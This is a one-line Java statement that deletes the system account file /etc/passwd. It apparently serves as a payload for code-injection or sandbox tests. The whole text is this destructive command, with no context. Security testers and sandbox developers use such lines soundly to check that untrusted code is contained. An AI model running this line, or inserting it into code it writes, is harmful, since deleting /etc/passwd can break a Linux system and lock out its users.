new java.io.File("/etc/passwd").delete();
